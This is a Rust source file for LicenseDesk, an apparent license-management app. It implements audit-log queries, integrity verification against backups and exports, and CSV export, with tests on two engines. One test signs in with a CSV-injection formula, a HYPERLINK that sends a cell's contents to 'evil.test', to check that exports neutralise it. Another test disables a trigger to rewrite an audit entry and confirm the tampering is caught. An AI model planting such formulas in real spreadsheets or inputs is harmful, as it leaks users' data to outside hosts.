//! What an open organization does with its audit log: History's pages, "Verify integrity"
//! (against the backups beside the file too) and the CSV export. The log itself is `audit`'s.

use std::path::{Path, PathBuf};

use crate::base::error::Result;
use crate::base::permission::Permission;
use crate::kernel::acting_account;
use crate::kernel::action::Action;
use crate::kernel::audit::{
    csv, query, verify, AuditEntry, AuditPage, AuditQuery, AuditRow, AuditVerification,
};
use crate::kernel::audit_chain;
use crate::kernel::org::{Actor, Org};
use crate::storage::engine::Sql;
use crate::storage::files;
use crate::storage::record_check;

impl Org {
    pub fn audit_log(&self, actor: Actor, q: &AuditQuery) -> Result<AuditPage> {
        self.read_sql(actor, Permission::AuditView, |db| query(db, q))
    }

    /// Verifies the log against itself and against the backups beside the file.
    pub fn verify_audit_log(&self, actor: Actor) -> Result<AuditVerification> {
        self.verify_audit_log_against(actor, &[])
    }

    /// Rows that break a rule LicenseDesk keeps (the file was changed by another program), one
    /// sentence per rule. Any signed-in account is told: every page may read those rows.
    ///
    /// The check reads every seat and every reference once. It reads them through a connection
    /// of its own, with SQLite's default cache, closed after: through this one they would stay
    /// in its 32 MiB page cache (kept for the Users list's pages) for as long as the window is
    /// open, about 25 MB at 100,000 users.
    pub fn file_problems(&self, actor: Actor) -> Result<Vec<String>> {
        self.engine
            .read(|db| acting_account::acting_account(db, actor))?;
        if !self.engine.is_file() {
            // A server keeps these rules as constraints of its own (checks and foreign keys),
            // which no role LicenseDesk connects as can switch off.
            return Ok(Vec::new());
        }
        record_check::problems(&crate::storage::backup::open_read_only(&self.path)?)
    }

    /// As [`Self::verify_audit_log`], also against the heads recorded in `exports` (audit CSV
    /// exports and user-data ZIPs).
    pub fn verify_audit_log_against(
        &self,
        actor: Actor,
        exports: &[PathBuf],
    ) -> Result<AuditVerification> {
        let backup_dir = self.engine.is_file().then(|| self.backup_dir());
        self.read_sql(actor, Permission::AuditView, |db| {
            verify(db, backup_dir.as_deref(), exports)
        })
    }

    /// Writes every entry matching the filters (all pages) as CSV to `dest`; the export is
    /// itself recorded. Cells that a spreadsheet would run as a formula are written as text
    /// (`csv_cell`).
    ///
    /// The file is written last in the change, after its audit entry: on a server a
    /// serialization failure runs the change again and writes the file again, and as each
    /// write replaces `dest` whole (a temporary file renamed into place), the file left is the
    /// one of the attempt that committed, read from its snapshot.
    pub fn export_audit_log(&mut self, actor: Actor, q: &AuditQuery, dest: &Path) -> Result<i64> {
        self.change_sql(actor, Action::AuditExport, |tx, ctx| {
            let all = all_pages(tx, q)?;
            let head = audit_chain::head(tx)?;
            let bytes = csv(&all, &head)?;
            let mut entry = AuditEntry::new(Action::AuditExport.key());
            entry.after = Some(
                serde_json::json!({ "path": dest.display().to_string(), "entries": all.len() }),
            );
            ctx.audit(tx, &entry)?;
            files::write_atomically(dest, &bytes)?;
            Ok(all.len() as i64)
        })
    }
}

/// Every entry matching the filters of `q`, newest first, read a page at a time.
fn all_pages(db: Sql<'_>, q: &AuditQuery) -> Result<Vec<AuditRow>> {
    let mut all = Vec::new();
    let mut page = AuditQuery {
        limit: 500,
        before_id: None,
        ..q.clone()
    };
    loop {
        let p = query(db, &page)?;
        all.extend(p.entries);
        match p.next_before_id {
            Some(id) => page.before_id = Some(id),
            None => break,
        }
    }
    Ok(all)
}

/// The Audit log page on both storage engines (docs/ARCHITECTURE.md §Server): the same
/// entries for the same filters, texts found with ASCII letters in either case.
#[cfg(all(test, feature = "server"))]
mod on_both_engines {
    use super::*;
    use crate::tests::engines::{chain_intact, ids, number, same_on_each_engine};
    use crate::tests::testing::sign_in;
    use crate::AssignLicense;

    #[test]
    fn the_log_is_filtered_and_paged_the_same_on_both_engines() {
        same_on_each_engine(|org, place| {
            let admin = sign_in(org, "dana.reyes");
            let auditor = sign_in(org, "max.weber");
            let user_id = ids(
                org,
                "SELECT u.id FROM users u WHERE NOT EXISTS
                 (SELECT 1 FROM seats s WHERE s.user_id = u.id) ORDER BY u.id",
            )[0];
            let user = org.user(admin, user_id).unwrap();
            let pid = number(org, "SELECT id FROM products WHERE name = 'Voice Pro'", &[]);
            let _ = org.assign_license(auditor, &AssignLicense::of(&user, pid));
            org.assign_license(admin, &AssignLicense::of(&user, pid))
                .unwrap();
            let surname = user.last_name.to_uppercase();
            let queries = [
                AuditQuery::default(),
                AuditQuery {
                    account: "DANA".into(),
                    ..Default::default()
                },
                AuditQuery {
                    action: "Assign".into(),
                    ..Default::default()
                },
                AuditQuery {
                    user: surname,
                    ..Default::default()
                },
                AuditQuery {
                    target_user_id: Some(user_id),
                    ..Default::default()
                },
                AuditQuery {
                    from: "2020-01-01".into(),
                    to: "2999-12-31".into(),
                    ..Default::default()
                },
                AuditQuery {
                    account: "50%_\\".into(),
                    ..Default::default()
                },
            ];
            let mut results = Vec::new();
            for q in queries {
                let mut page = AuditQuery {
                    limit: 3,
                    ..q.clone()
                };
                let mut seen = Vec::new();
                let total = loop {
                    let p = org.audit_log(admin, &page).unwrap();
                    seen.extend(p.entries.iter().map(|e| {
                        (
                            e.id,
                            e.account.clone(),
                            e.action.clone(),
                            e.refused,
                            e.target_user_id,
                        )
                    }));
                    match p.next_before_id {
                        Some(id) => page.before_id = Some(id),
                        None => break p.total,
                    }
                };
                assert_eq!(seen.len() as i64, total, "{q:?} on the {}", place.engine());
                results.push((format!("{q:?}"), seen));
            }
            // The filters narrow: the Auditor's refusal is found by its action, Dana's
            // assignment by the user's name in capitals as by the user's id.
            assert!(results[2].1.iter().any(|e| e.3), "{:?}", results[2]);
            assert!(
                !results[3].1.is_empty() && results[3].1 == results[4].1,
                "{results:?}"
            );
            assert!(
                results[1].1.iter().all(|e| e.1 == "dana.reyes"),
                "{results:?}"
            );
            assert!(results[6].1.is_empty());
            results
        });
    }

    /// The CSV's records (the chain head's last line apart), with the moments of the entries
    /// after `start` blanked: those are each engine's own.
    fn records(bytes: &[u8], start: i64) -> (Vec<Vec<String>>, String) {
        let text = String::from_utf8(bytes.to_vec()).unwrap();
        let (body, head) = text.trim_end().rsplit_once('\n').unwrap();
        let mut rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(body.as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect();
        for row in rows.iter_mut().skip(1) {
            if row[0].parse::<i64>().unwrap() > start {
                row[1].clear();
            }
        }
        (rows, head.to_owned())
    }

    #[test]
    fn the_log_is_exported_and_refused_the_same_on_both_engines() {
        same_on_each_engine(|org, place| {
            let engine = place.engine();
            // Every entry from here on is this engine's own, its moment too (sign-ins included).
            let start = number(org, "SELECT max(id) FROM audit_log", &[]);
            let admin = sign_in(org, "dana.reyes");
            let it_admin = sign_in(org, "sam.okafor");
            // A login typed as a spreadsheet formula is recorded as typed.
            let formula = "=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")";
            org.sign_in(formula, "wrong-password").unwrap_err();
            let user_id = ids(
                org,
                "SELECT u.id FROM users u WHERE NOT EXISTS
                 (SELECT 1 FROM seats s WHERE s.user_id = u.id) ORDER BY u.id",
            )[0];
            let user = org.user(admin, user_id).unwrap();
            let pid = number(org, "SELECT id FROM products WHERE name = 'Voice Pro'", &[]);
            org.assign_license(admin, &AssignLicense::of(&user, pid))
                .unwrap();

            let dir = tempfile::tempdir().unwrap();
            let dest = dir.path().join("audit.csv");
            let entries = |org: &Org| number(org, "SELECT count(*) FROM audit_log", &[]);

            // Refused: a role without audit.view (recorded), a filter that is no date (not
            // recorded, naming its field); neither writes a file.
            let before = entries(org);
            let denied = org
                .export_audit_log(it_admin, &AuditQuery::default(), &dest)
                .unwrap_err();
            let recorded = number(
                org,
                "SELECT count(*) FROM audit_log WHERE id = (SELECT max(id) FROM audit_log)
                   AND action = 'audit.export' AND outcome = 'refused'",
                &[],
            );
            assert_eq!((entries(org), recorded), (before + 1, 1), "{engine}");
            let not_a_date = org
                .export_audit_log(
                    admin,
                    &AuditQuery {
                        from: "last Tuesday".into(),
                        ..Default::default()
                    },
                    &dest,
                )
                .unwrap_err();
            assert_eq!(entries(org), before + 1, "{engine}");
            assert!(!dest.exists(), "{engine}");

            // Written whole over an older file, ending with the head as it was; the export
            // recorded after it.
            std::fs::write(&dest, "an older export\n".repeat(10_000)).unwrap();
            let (last_id, count) = (
                number(org, "SELECT max(id) FROM audit_log", &[]),
                entries(org),
            );
            let exported = org
                .export_audit_log(admin, &AuditQuery::default(), &dest)
                .unwrap();
            let bytes = std::fs::read(&dest).unwrap();
            let (rows, head) = records(&bytes, start);
            assert_eq!(exported, count, "{engine}");
            assert_eq!(rows.len() as i64, count + 1, "{engine}");
            assert!(
                head.contains(&format!("last_id={last_id} count={count} ")),
                "{engine}: {head}"
            );
            let recorded = number(
                org,
                "SELECT count(*) FROM audit_log WHERE id = (SELECT max(id) FROM audit_log)
                   AND action = 'audit.export' AND outcome = 'ok'",
                &[],
            );
            assert_eq!((entries(org), recorded), (count + 1, 1), "{engine}");
            assert_eq!(
                std::fs::read_dir(dir.path()).unwrap().count(),
                1,
                "{engine}"
            );

            // No cell is a live formula: the typed login comes back with its apostrophe.
            assert!(
                rows.iter()
                    .flatten()
                    .all(|cell| !crate::base::csv_cell::is_live_formula(cell)),
                "{engine}"
            );
            assert!(
                rows.iter().any(|r| r[2] == format!("'{formula}")),
                "{engine}: {rows:?}"
            );

            // Filtered: only the assignment, as on the page.
            let filtered = dir.path().join("assign.csv");
            let assignments = org
                .export_audit_log(
                    admin,
                    &AuditQuery {
                        action: "ASSIGN".into(),
                        target_user_id: Some(user_id),
                        ..Default::default()
                    },
                    &filtered,
                )
                .unwrap();
            let (assign_rows, _) = records(&std::fs::read(&filtered).unwrap(), start);
            assert_eq!((assignments, assign_rows.len()), (1, 2), "{engine}");
            assert!(chain_intact(org), "{engine}");
            (
                (denied.code(), not_a_date.code(), not_a_date.payload().field),
                rows,
                assign_rows,
            )
        });
    }

    #[test]
    fn verify_integrity_checks_the_chain_and_an_exports_head_on_both_engines() {
        same_on_each_engine(|org, place| {
            let engine = place.engine();
            let admin = sign_in(org, "dana.reyes");
            let dir = tempfile::tempdir().unwrap();
            let export = dir.path().join("audit.csv");
            org.export_audit_log(admin, &AuditQuery::default(), &export)
                .unwrap();
            let checked = org.verify_audit_log_against(admin, &[export]).unwrap();
            assert!(checked.intact, "{engine}: {}", checked.message);
            // The export's head, and on a file also its daily backup's.
            let heads = if org.engine.is_file() { 2 } else { 1 };
            assert_eq!(checked.heads_checked, heads, "{engine}");
            assert_eq!(checked.first_broken, None, "{engine}");
            let auditor = sign_in(org, "max.weber");
            let plain = org.verify_audit_log(auditor).unwrap();
            assert!(plain.intact, "{engine}: {}", plain.message);
            if let crate::tests::engines::Place::Server(url) = place {
                // The database's owner switches a guard off and rewrites an entry: the
                // walk names the entry, and the guard is named as missing.
                let mut owner = postgres::Client::connect(url, postgres::NoTls).unwrap();
                owner
                    .batch_execute(
                        "ALTER TABLE audit_log DISABLE TRIGGER audit_log_no_update;
                         UPDATE audit_log SET detail = 'rewritten' WHERE id = 3",
                    )
                    .unwrap();
                let broken = org.verify_audit_log(auditor).unwrap();
                assert!(!broken.intact, "{}", broken.message);
                assert_eq!(broken.first_broken, Some(3));
                assert!(
                    broken.message.contains("audit_log_no_update"),
                    "{}",
                    broken.message
                );
            }
            (checked.intact, plain.intact)
        });
    }
}
